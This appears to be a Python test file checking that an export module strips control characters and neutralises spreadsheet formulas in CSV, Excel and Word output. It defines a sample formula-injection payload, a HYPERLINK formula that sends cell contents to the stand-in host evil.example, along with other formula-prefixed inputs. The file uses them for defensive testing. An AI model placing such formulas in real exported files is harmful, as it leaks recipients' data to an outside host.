"""The one rule for text in exported files: no formula, no character that breaks the file, and
the text still readable."""

import csv
import io
from datetime import date

from docx import Document
from openpyxl import Workbook, load_workbook

from opencounty.core import export_text

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def saved_and_loaded(book: Workbook):
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).active


def test_control_characters_are_removed_and_line_breaks_are_kept():
    typed = "林\x00示\x07范\x1b[31m\r\n第二行\x0b第三行\x7f\x85第四行\ud800"
    assert export_text.xml_text(typed) == "林示范[31m\n第二行\n第三行\n第四行"
    assert export_text.xml_text("制表\t保留") == "制表\t保留"


def test_a_formula_from_the_public_is_plain_text_in_a_workbook_shown_as_typed():
    book = Workbook()
    sheet = book.active
    export_text.append(sheet, [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\x01=1+1", "正常", 7])
    cells = saved_and_loaded(book)[1]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "s", "s", "s", "n"]
    assert cells[0].value == HYPERLINK and cells[0].quotePrefix
    assert cells[4].value == "=1+1" and cells[4].quotePrefix
    assert cells[5].value == "正常" and not cells[5].quotePrefix
    assert cells[6].value == 7


def test_a_formula_gets_a_leading_apostrophe_in_csv():
    out = io.StringIO()
    csv.writer(out).writerow(
        export_text.csv_row([HYPERLINK, "+86 138", "\t=cmd", "\x02@A1", "正常", 3, None])
    )
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["'" + HYPERLINK, "'+86 138", "'\t=cmd", "'@A1", "正常", "3", ""]


def test_numbers_dates_and_nothing_pass_unchanged():
    for value in (3, 2.5, date(2026, 10, 1), None):
        assert export_text.csv_value(value) == value
        assert export_text.spreadsheet_value(value) == value


def test_the_cleaned_text_is_accepted_by_word_documents():
    document = Document()
    document.add_paragraph(export_text.xml_text("申请人\x01\x02：林示范\x0c"))
    out = io.BytesIO()
    document.save(out)
    assert Document(io.BytesIO(out.getvalue())).paragraphs[0].text == "申请人：林示范\n"
